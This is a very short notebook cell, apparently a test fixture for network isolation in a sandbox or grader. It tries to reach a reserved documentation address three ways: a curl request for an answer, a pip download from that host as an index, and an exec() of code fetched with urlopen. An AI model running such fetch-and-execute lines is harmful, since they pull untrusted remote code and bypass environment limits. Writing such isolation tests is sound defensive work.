# %% answer=square
import urllib.request
!curl --max-time 1 http://192.0.2.1/answer
%pip download --timeout 1 --retries 0 --index-url http://192.0.2.1/ answer
exec(urllib.request.urlopen("http://192.0.2.1/answer", timeout=1).read())
